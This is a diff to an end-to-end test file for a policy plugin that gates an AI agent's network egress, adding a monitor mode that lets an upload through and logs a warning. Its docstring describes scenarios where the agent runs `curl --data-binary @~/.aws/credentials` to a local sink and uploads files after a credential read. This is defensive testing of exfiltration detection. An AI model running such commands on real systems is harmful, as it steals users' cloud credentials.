@@ -1,6 +1,6 @@
 """Real OpenClaw with the clawtrace plugin's policy gate on, against `clawtrace serve`.
 
-Two runs, each on a fresh store and state dir:
+Three runs, each on a fresh store and state dir:
 
 - allowlist: `install-plugin --policy-allow '*.example.com'`; the exfil-exec scenario reads
   notes.txt, then runs `curl --data-binary @~/.aws/credentials` to the sink on 127.0.0.1 (not
@@ -11,6 +11,9 @@ Two runs, each on a fresh store and state dir:
 - strict: `--policy-allow 127.0.0.1 --policy-strict`; the strict-exfil scenario downloads from
   the sink (allowed, recorded), reads ~/.aws/credentials, then uploads notes.txt to the same
   allowed host: strict mode must block the upload, with a decision linked to the read.
+
+- monitor: the allowlist run with `--policy-monitor`: the upload must reach the sink, with a
+  decision (warn, rule allowlist) for the call and `egress` saying exfiltration, policy warn.
 
 The gate-off control is tests/e2e/test_plugin_e2e.py (same scenario, the upload arrives).
 """
@@ -32,17 +35,21 @@ pytestmark = pytest.mark.e2e
 
 
 def _run(
-    name: str, tmp_path_factory: pytest.TempPathFactory, openclaw_path: Callable[[str], str], *install_args: str
+    name: str,
+    tmp_path_factory: pytest.TempPathFactory,
+    openclaw_path: Callable[[str], str],
+    *install_args: str,
+    blocked: bool = True,
 ) -> Iterator[dict[str, Any]]:
     from .test_plugin_e2e import VERSION
 
     path = openclaw_path(VERSION)
-    root = tmp_path_factory.mktemp(f"oc-policy-{name}")
+    root = tmp_path_factory.mktemp(f"oc-policy-{name}{'' if blocked else '-monitor'}")
     db = root / "ct" / "store.duckdb"
     db.parent.mkdir()
     serve = Serve(db)
     try:
-        sr = run_with_plugin(name, root / "run", path, serve, db, *install_args, egress_blocked=True)
+        sr = run_with_plugin(name, root / "run", path, serve, db, *install_args, egress_blocked=blocked)
         yield {"sr": sr, "db": db, "serve": serve}
     finally:
         serve.stop()
@@ -58,6 +65,19 @@ def allowlist(
 @pytest.fixture(scope="module")
 def strict(tmp_path_factory: pytest.TempPathFactory, openclaw_path: Callable[[str], str]) -> Iterator[dict[str, Any]]:
     yield from _run("strict-exfil", tmp_path_factory, openclaw_path, "--policy-allow", "127.0.0.1", "--policy-strict")
+
+
+@pytest.fixture(scope="module")
+def monitor(tmp_path_factory: pytest.TempPathFactory, openclaw_path: Callable[[str], str]) -> Iterator[dict[str, Any]]:
+    yield from _run(
+        "exfil-exec",
+        tmp_path_factory,
+        openclaw_path,
+        "--policy-allow",
+        "*.example.com",
+        "--policy-monitor",
+        blocked=False,
+    )
 
 
 def _decisions(db: Path, n: int) -> list[dict[str, Any]]:
@@ -173,3 +193,21 @@ def test_strict_blocks_egress_after_a_credential_read(strict: dict[str, Any]) ->
     verdicts = {e["url"]: e["verdict"] for e in _json(db, "egress")}
     assert verdicts.get(f"http://127.0.0.1:{sr.sink_port}/collect") == "blocked", verdicts
     assert verdicts.get(f"http://127.0.0.1:{sr.sink_port}/notes") != "blocked", verdicts
+
+
+def test_monitor_mode_lets_the_upload_through_and_records_a_warn(monitor: dict[str, Any]) -> None:
+    sr: ScenarioRun = monitor["sr"]
+    db: Path = monitor["db"]
+    cfg = json.loads(sr.run.config_path.read_text())
+    assert cfg["plugins"]["entries"]["clawtrace"]["config"]["policy"]["mode"] == "monitor"
+    assert sr.sink.posts(), "monitor mode blocked the upload"
+    decisions = _decisions(db, 1)
+    assert [(d["tool_call_id"], d["verdict"], d["rule"]) for d in decisions] == [("call_exec_2", "warn", "allowlist")]
+    assert decisions[0]["reason"].startswith("Monitor mode, not enforced:"), decisions[0]["reason"]
+
+    def egress_row() -> list[dict[str, Any]]:
+        return [e for e in _json(db, "egress") if e["destination"] == f"127.0.0.1:{sr.sink_port}"]
+
+    assert wait_for(lambda: bool(egress_row()), timeout=60)
+    rows = egress_row()
+    assert [(e["verdict"], e["policy"]) for e in rows] == [("exfiltration", "warn")], rows
